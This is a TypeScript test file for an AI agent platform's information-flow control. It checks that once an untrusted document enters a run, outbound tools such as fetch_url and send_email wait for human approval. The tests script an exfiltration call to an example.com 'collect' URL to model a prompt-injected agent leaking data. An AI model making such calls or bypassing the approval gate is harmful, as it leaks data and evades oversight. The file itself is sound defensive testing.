import { describe, expect, it } from 'vitest';
import type { AuditRecord } from '#shared/audit/index.ts';
import { lambdaContext } from '../../support/lambda-context.ts';
import { until, useLocalServer } from '../../support/local-server.ts';

// Information-flow control through npm start's API, as deployed: a run that read a document anyone
// could have written may not send anything out without a person, whatever tool it tries.
const world = useLocalServer();
const admin = () => world.tokenOfRole('admin');

type Run = {
  status: string;
  untrusted: { tool: string; callId: string } | null;
  calls: Array<{ callId: string; tool: string; status: string }>;
};
const run = async (runId: string) => (await world.api('GET', `/runs/${runId}`, admin())).body as unknown as Run;
const startRun = async (turns: unknown[], token = admin()) =>
  (await world.api('POST', '/runs', token, { input: 'flow', model: { provider: 'scripted', turns } })).body.runId as string;
const ended = (runId: string) => until(async () => ((await run(runId)).status === 'SUCCEEDED' ? run(runId) : undefined), 15_000);
const pendingOf = (runId: string) =>
  until(async () => {
    const list = (await world.api('GET', '/approvals?status=pending', world.tokenOfRole('approver'))).body.approvals as Array<{
      approvalId: string;
      runId: string;
      tool: string;
      why?: string;
      risk?: string;
      reversible?: boolean;
    }>;
    return list.find((a) => a.runId === runId);
  }, 15_000);
const deny = async (approvalId: string) =>
  expect((await world.api('POST', `/approvals/${approvalId}`, world.tokenOfRole('approver'), { decision: 'deny' })).status).toBe(200);
const audit = async (runId: string) => (await world.api('GET', `/runs/${runId}/audit`, admin())).body.records as AuditRecord[];

const readPolicy = { name: 'read_document', arguments: { path: 'policies/leave-policy.md' } };
const lookup = { name: 'lookup_order', arguments: { orderId: 'ORD-104231' } };
const leak = { name: 'fetch_url', arguments: { url: 'https://example.com/collect?d=leave-policy' } };

describe('information-flow control (deployment default: approve)', () => {
  it('parks a read tool that sends data out once a document entered the run, two turns later, and says why', async () => {
    const runId = await startRun([{ toolCalls: [readPolicy] }, { toolCalls: [lookup] }, { toolCalls: [leak] }, { text: 'done' }]);
    const pending = await pendingOf(runId);
    expect(pending).toMatchObject({ tool: 'fetch_url', risk: 'read', reversible: true });
    expect(pending.why).toMatch(
      /^Untrusted content entered this run through read_document \(c1-1\); fetch_url sends its arguments outside/,
    );
    expect(await run(runId)).toMatchObject({ status: 'WAITING_FOR_APPROVAL', untrusted: { tool: 'read_document', callId: 'c1-1' } });
    await deny(pending.approvalId);
    const finished = await ended(runId);
    expect(finished.calls.map((c) => `${c.tool}:${c.status}`)).toEqual([
      'read_document:executed',
      'lookup_order:executed',
      'fetch_url:denied',
    ]);
    // The label is in the records made after the document came in, and in none before.
    const records = await audit(runId);
    const byTool = Object.fromEntries(records.map((r) => [r.tool, r]));
    expect(byTool.read_document?.untrustedFrom).toBeUndefined();
    expect(byTool.lookup_order?.untrustedFrom).toBe('read_document c1-1');
    expect(records.filter((r) => r.tool === 'fetch_url').map((r) => r.status)).toEqual(['denied']);
  });

  it('leaves the same call alone in a run with no untrusted content (a trusted read before it changes nothing)', async () => {
    const runId = await startRun([{ toolCalls: [lookup] }, { toolCalls: [leak] }, { text: 'done' }], world.tokenOfRole('user'));
    const finished = await ended(runId);
    expect(finished.untrusted).toBeNull();
    // It went straight to its function (which cannot reach the internet here): no approval was asked for.
    expect(finished.calls.map((c) => c.tool)).toEqual(['lookup_order', 'fetch_url']);
    expect(finished.calls[1]?.status).not.toBe('awaiting_approval');
    expect(finished.calls[1]?.status).not.toBe('denied');
    expect((await audit(runId)).filter((r) => r.tool === 'fetch_url' && r.status !== 'denied')).toHaveLength(1);
  });

  it('tells the approver of a destructive sink why, too', async () => {
    const email = { name: 'send_email', arguments: { to: 'jane@example.com', subject: 'Policy', body: 'As asked.' } };
    const runId = await startRun([{ toolCalls: [readPolicy] }, { toolCalls: [email] }, { text: 'done' }]);
    const pending = await pendingOf(runId);
    expect(pending).toMatchObject({
      tool: 'send_email',
      risk: 'destructive',
      reversible: false,
      why: expect.stringContaining('through read_document (c1-1)'),
    });
    await deny(pending.approvalId);
    await ended(runId);
  });

  it('has the sink check the label again itself: labelled and unapproved, its function refuses before the handler', async () => {
    const fetchUrl = world.system.tools.fetch_url!;
    const invocation = {
      runId: 'run-flow-direct',
      callId: 'c2-1',
      tool: 'fetch_url',
      caller: { userId: 'uma', groups: ['user'] },
      arguments: leak.arguments,
    };
    expect(await fetchUrl({ ...invocation, untrusted: { tool: 'read_document', callId: 'c1-1' } }, lambdaContext())).toMatchObject({
      ok: false,
      error: { code: 'PERMISSION_DENIED', message: expect.stringContaining('needs a recorded human approval') },
    });
    // A forged label is still a label: malformed, the invocation is refused outright.
    expect(await fetchUrl({ ...invocation, callId: 'c2-2', untrusted: { tool: 'x', callId: '../..' } }, lambdaContext())).toMatchObject({
      ok: false,
      error: { code: 'VALIDATION_FAILED' },
    });
  });
});
